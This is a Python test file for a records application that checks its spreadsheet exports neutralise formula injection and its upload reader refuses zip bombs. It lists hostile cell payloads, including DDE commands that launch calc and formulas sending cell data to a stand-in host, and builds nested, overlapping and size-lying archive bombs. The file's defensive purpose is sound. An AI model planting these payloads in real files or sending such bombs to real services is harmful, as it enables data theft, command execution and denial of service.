"""S12, S13: what leaves as a spreadsheet runs nothing; what comes as one and unpacks to ruin is refused in a second."""

from __future__ import annotations

import csv
import io
import struct
import time
import zipfile
from collections.abc import Callable
from datetime import date
from typing import Any

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import text
from xlsxwriter.worksheet import Worksheet

from lms.access import SYSTEM
from lms.coverage.answers import answer
from lms.coverage.asking import read_question
from lms.coverage.exporting import as_csv
from lms.db import db
from lms.sheets import writing
from lms.sheets.apart import read_workbook_apart
from lms.sheets.model import Limits, Refused
from lms.sheets.reading import read_workbook
from lms.sheets.writing import neutralise_csv
from tests.certificates.people import HERE, Visitor, certified
from tests.factories import Make
from tests.sheets import files

RUNS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://xau.example/?d="&A1,"xem")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://xau.example")',
    '=IMPORTXML("http://xau.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "http://xau.example",
    "mailto:a@xau.example",
]
BOOKS = ("/nguoi.xlsx", "/so-cap-giay.xlsx", "/ty-le.xlsx", "/ty-le/nguoi.xlsx?tt=all", "/danh-sach/mau.xlsx")


@pytest.fixture
def hostile(app: Flask, make: Make) -> Visitor:
    """A ward in which every free text is a formula, and its manager, who is called one too."""
    app.config["WTF_CSRF_ENABLED"] = False
    for number, words in enumerate(RUNS):
        person = make.person(words, note=words, sex="nu", birth_date=date(1971, 1, 1), birth_precision="year")
        make.assignment(person, "CTV_DS", f"{HERE}/khom-13", date(2025, 7, 1))
        if number < 6:
            certified(person, title=words, approved_programme=words)
    with db.write():
        db.session.execute(text("UPDATE role SET name = '=1+1'"))
        db.session.execute(text("UPDATE unit_version SET name = '=1+' || name WHERE kind = 'khom'"))
        db.session.execute(text("UPDATE certificate SET revoked_at = recorded_at, revoked_reason = '@SUM(1)'"))
    return Visitor(app, make.account("=1+1", capability="manager", unit=HERE))


def cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def runs(data: bytes) -> list[str]:
    """What a spreadsheet program would compute, open or link: formulas in cells, links, names, connections."""
    found = [str(cell.value) for cell in cells(data) if cell.data_type == "f" or cell.hyperlink]
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = book.namelist()
        found += [name for name in names if "externalLink" in name or "connections" in name or "vba" in name.lower()]
        found += [name for name in names if b"<f>" in book.read(name) or b"<hyperlink" in book.read(name)]
    return found


@pytest.mark.attack("S12")
@pytest.mark.both
def test_no_book_that_we_make_runs_anything(app: Flask, hostile: Visitor) -> None:
    """All of them, over a register that is full of formulas; the words themselves stand there as words."""
    routes = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".xlsx")}
    assert routes == {url.partition("?")[0] for url in BOOKS}
    shown = set()
    for url in BOOKS:
        data = hostile.get(url).answer.data
        assert runs(data) == [], url
        shown |= {cell.value for cell in cells(data) if cell.data_type == "s"}
    assert {"=1+1", "@SUM(1)", "＝1+1", RUNS[13], RUNS[14], RUNS[18]} <= shown


@pytest.mark.attack("S12")
def test_written_as_the_library_would_they_would_run(hostile: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    """The negative control: cells written by their looks, which is what `write()` does."""

    def by_its_looks(sheet: Worksheet, row: int, column: int, value: Any, _day: Any) -> None:
        sheet.strings_to_formulas = sheet.strings_to_urls = True
        sheet.write(row, column, value)

    monkeypatch.setattr(writing, "_write_cell", by_its_looks)
    assert len(runs(hostile.get("/nguoi.xlsx").answer.data)) > 5


@pytest.mark.attack("S12")
@pytest.mark.parametrize("words", RUNS[:-3])
def test_a_field_of_text_separated_by_commas_begins_with_an_apostrophe(words: str) -> None:
    assert neutralise_csv(words) == f"'{words}"


@pytest.mark.attack("S12")
def test_the_figures_as_csv_hold_nothing_that_runs(hostile: Visitor) -> None:
    """Codes and keys of ours stand in it; where one ever began like a formula it would be neutralised."""
    with db.write():
        db.session.execute(text("UPDATE role SET code = '=' || code WHERE code = 'CTV_DS'"))
    rows = list(csv.reader(io.StringIO(as_csv(answer(SYSTEM, read_question(None, None, None, None), by=("role",))))))
    assert "'=CTV_DS" in [row[0] for row in rows]
    assert not [field for row in rows for field in row if field.startswith(("=", "+", "-", "@", "\t", "\r"))]


def nested(depth: int = 6) -> bytes:
    data = files.zipped({"0": b"\0" * 10_000_000})
    for level in range(depth):
        data = files.zipped({f"{level}-{copy}.zip": data for copy in range(10)})
    return data


def with_parts(count: int) -> bytes:
    return files.zipped({"xl/workbook.xml": "<workbook/>"} | {f"xl/{number}.xml": "" for number in range(count)})


def overlapping() -> bytes:
    """One compressed megabyte, which two hundred entries of the directory all claim as their own."""
    data = bytearray(files.zipped({"xl/workbook.xml": b" " * 1_000_000}))
    at = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = bytes(data[at:end])
    entries = b"".join(entry.replace(b"xl/workbook.xml", f"xl/workb{n:03}.xml".encode()) for n in range(199))
    directory = entry + entries
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", 200, 200)
    tail[12:20] = struct.pack("<II", len(directory), at)
    return bytes(data[:at]) + directory + bytes(tail)


def unsaid_size() -> bytes:
    """The directory says that every part is empty."""
    data = bytearray(files.raw_xlsx(" " * 40_000_000))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 24 : at + 28] = struct.pack("<I", 0)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


BOMBS: dict[str, Callable[[], bytes]] = {
    "300 MB of blanks": files.bomb,
    "a directory that lies": files.lying_bomb,
    "a directory that says nothing": unsaid_size,
    "a tree of archives": nested,
    "an archive in a workbook": lambda: files.zipped({"xl/workbook.xml": "<workbook/>", "xl/a.zip": nested(5)}),
    "20 000 parts": lambda: with_parts(20_000),
    "overlapping entries": overlapping,
}


@pytest.mark.attack("S13")
@pytest.mark.parametrize("name", BOMBS)
def test_what_unpacks_to_ruin_is_refused_within_a_second(name: str) -> None:
    """A second of the processor's time, so that a busy machine proves nothing either way."""
    data = BOMBS[name]()
    before = time.process_time()
    with pytest.raises(Refused) as refused:
        read_workbook(data, "danh-sach.xlsx")
    assert time.process_time() - before <= 1.0
    assert refused.value.code in ("too_large", "broken", "not_spreadsheet", "empty", "password")


@pytest.mark.attack("S13")
def test_without_the_limit_the_blanks_would_be_unpacked() -> None:
    """The negative control: the same kind of file is read, all of it, where the limit allows as much."""
    data = files.raw_xlsx('<row r="1"><c r="A1"><v>1</v></c></row>' + " " * 25_000_000)
    with pytest.raises(Refused):
        read_workbook(data, "a.xlsx")
    assert read_workbook(data, "a.xlsx", max_unpacked=30_000_000).sheets


@pytest.mark.attack("S13")
def test_uploaded_it_is_a_sentence_and_nothing_is_kept(app: Flask, make: Make) -> None:
    """Through the door that people use, with its child process."""
    app.config["WTF_CSRF_ENABLED"] = False
    manager = Visitor(app, make.account("Lê Thị Mẫu", capability="manager", unit=HERE))
    sent = {
        "file": (io.BytesIO(unsaid_size()), "danh-sach.xlsx"),
        "unit": str(make.unit_id(HERE)),
        "list_date": "01/05/2026",
    }
    answer = manager.post("/danh-sach/moi", sent)
    assert answer.status in (400, 413, 422)
    assert db.session.scalar(text("SELECT count(*) FROM roster_import")) == 0
    assert not list((app.extensions["settings"].files_dir).rglob("*.*"))


@pytest.mark.attack("S13")
def test_the_reading_process_dies_of_what_the_directory_hides() -> None:
    data = files.raw_xlsx("<row/>" * 8_000_000)
    with pytest.raises(Refused) as refused:
        read_workbook_apart(data, "a.xlsx", Limits(unpacked=100_000_000), memory=90_000_000)
    assert refused.value.code == "too_large"
    ordinary = files.raw_xlsx('<row><c r="A1" t="inlineStr"><is><t>Ấp 1</t></is></c></row>')
    assert read_workbook_apart(ordinary, "a.xlsx", memory=90_000_000).sheets, "the limit is the file's to break"
